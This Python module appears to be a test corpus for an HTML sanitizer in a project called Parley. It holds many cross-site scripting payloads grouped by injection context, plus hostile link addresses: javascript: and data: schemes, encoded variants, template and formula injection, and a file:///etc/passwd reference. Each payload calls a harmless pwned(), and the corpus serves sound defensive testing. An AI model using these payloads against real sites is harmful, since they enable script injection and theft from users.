"""Texts that would run a script, were they taken for markup anywhere: each calls `pwned()`. Made for Parley after the classes that
OWASP's and the HTML5 security cheat sheets describe. They stand together by the place at which they aim."""

CALL = "pwned()"

TEXTS = {
    "elements": [
        f"<script>{CALL}</script>", f"<ScRiPt >{CALL}</sCrIpT\t>", f"<script/x>{CALL}</script/y>", f"<<script>{CALL}//<</script>",
        f"<img src=x onerror={CALL}>", f"<img src=x onerror={CALL}//", f"<svg onload={CALL}>", f"<svg/onload={CALL}>",
        f"<svg><script>{CALL}</script></svg>", f"<body onload={CALL}>", f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
        f"<iframe src=javascript:parent.{CALL}></iframe>", f"<details open ontoggle={CALL}>", f"<input autofocus onfocus={CALL}>",
        f"<video><source onerror={CALL}></video>", f"<audio src=x onerror={CALL}>", f"<object data=javascript:{CALL}></object>",
        f"<embed src=javascript:{CALL}>", f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
        f"<style>@import 'javascript:{CALL}';</style>", f"<marquee onstart={CALL}>", f"<base href=javascript:{CALL}//>",
        f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", f"<form action=javascript:{CALL}><button>b</button></form>",
        f"<template><img src=x onerror={CALL}></template>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'></noscript>",
        f"<xmp><img src=x onerror={CALL}></xmp>", f"<plaintext>", f"<table background=javascript:{CALL}>",
        f"<a href=javascript:{CALL} autofocus onfocus={CALL}>a</a>", f"<p style='animation:x' onanimationstart={CALL}>",
    ],
    "attributes": [
        f"\" onmouseover=\"{CALL}\" x=\"", f"' onmouseover='{CALL}' x='", f"\" autofocus onfocus={CALL} x=\"", f"\"><img src=x onerror={CALL}>",
        f"'><img src=x onerror={CALL}>", f"`><img src=x onerror={CALL}>", f"\" style=\"animation:x\" onanimationstart=\"{CALL}", f"x\" tabindex=0 onfocusin=\"{CALL}",
        f"&quot; onload=&quot;{CALL}", f"&#34;&#62;<img src=x onerror={CALL}>", f"&lt;img src=x onerror={CALL}&gt;", f"&amp;lt;img src=x onerror={CALL}&amp;gt;",
        f"&#x3C;img src=x onerror={CALL}&#x3E;", f"&#0000060img src=x onerror={CALL}&#0000062", f"\\\"><script>{CALL}</script>",
        f"=\"\"><svg/onload={CALL}>", f"--><img src=x onerror={CALL}>", f"--!><img src=x onerror={CALL}>", f"<!--><img src=x onerror={CALL}>-->",
        f"]]><img src=x onerror={CALL}>", f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"</style><script>{CALL}</script>",
        f"</noscript><script>{CALL}</script>", f"</option></select><img src=x onerror={CALL}>", f"</template><img src=x onerror={CALL}>",
    ],
    "scripts": [
        f"</script><script>{CALL}</script>", f"</ScRiPt ><img src=x onerror={CALL}>", f"<!--<script>{CALL}//-->", f"<!--<script>", f"]]>*/{CALL}//",
        f"\");{CALL};(\"", f"');{CALL};('", f"\\\");{CALL};//", f"\\');{CALL};//", f"\"]]);{CALL};([[\"", f"${{{CALL}}}", f"`${{{CALL}}}`",
        f"\u2028{CALL}//", f"\u2029{CALL}//", f"\"}}</script><script>{CALL}</script>", f"\\u003c/script\\u003e\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
        f"{{{{constructor.constructor('{CALL}')()}}}}", f"{{{{{{{CALL}}}}}}}", f"{{{{&{CALL}}}}}", f"{{{{#each}}}}{CALL}{{{{/each}}}}", f"<%= {CALL} %>",
        f"javascript:{CALL}", f"__proto__", f"constructor", f"*/{CALL}/*", f"\\", f"%3Cscript%3E{CALL}%3C/script%3E", f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    ],
    "drawings and feeds": [
        f"<svg xmlns=http://www.w3.org/2000/svg><a xlink:href=javascript:{CALL}><text y=20>t</text></a></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><set attributeName=onmouseover to={CALL}>", f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{CALL}</script></svg>#x\"/>",
        f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>", f"<svg><title><style><img src=x onerror={CALL}></style></title></svg>",
        f"<![CDATA[<script>{CALL}</script>]]>", f"]]]]><![CDATA[><script>{CALL}</script>", f"<?xml-stylesheet href='javascript:{CALL}'?>", f"<!DOCTYPE x [<!ENTITY e '{CALL}'>]>",
        f"</content></entry><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>", f"</summary><link href='javascript:{CALL}'/>", f"&e;&nbsp;&lt;script&gt;{CALL}&lt;/script&gt;",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>", f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>m</maction></math>",
        f"BEGIN:VEVENT\\nURL:javascript:{CALL}", f"=HYPERLINK(\"javascript:{CALL}\")", f"@SUM({CALL})",
    ],
}

# Addresses that a link might lead to.
ADDRESSES = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "java\tscript:pwned()", "&#106;avascript:pwned()", "&#x6A;&#x61;vascript:pwned()",
    "javascript&colon;pwned()", "java&Tab;script:pwned()", "java&NewLine;script:pwned()", "\\javascript:pwned()", "javascript\\:pwned()", "%6Aavascript:pwned()", "javascript%3Apwned()",
    "vbscript:pwned()", "data:text/html,<script>pwned()</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=pwned()>",
    "data:application/xhtml+xml,<x/>", "blob:pwned()", "filesystem:pwned()", "view-source:x", "file:///etc/passwd", "ftp://x.example/", "//x.example/pwned", "\\\\x.example\\pwned",
    "/\\x.example", "feed:javascript:pwned()", "jar:javascript:pwned()", "livescript:pwned()", "mocha:pwned()", "javascript://%0apwned()", "https:javascript:pwned()",
    "http://x.example/\" onmouseover=\"pwned()", "https://x.example/'><img src=x onerror=pwned()>", "https://x.example/<script>pwned()</script>", "mailto:a@b.example?body=<img src=x onerror=pwned()>",
    "tel:\" onclick=\"pwned()", "issue:\"><img src=x onerror=pwned()>", "#\"><img src=x onerror=pwned()>", "x.md#\" onclick=\"pwned()",
]
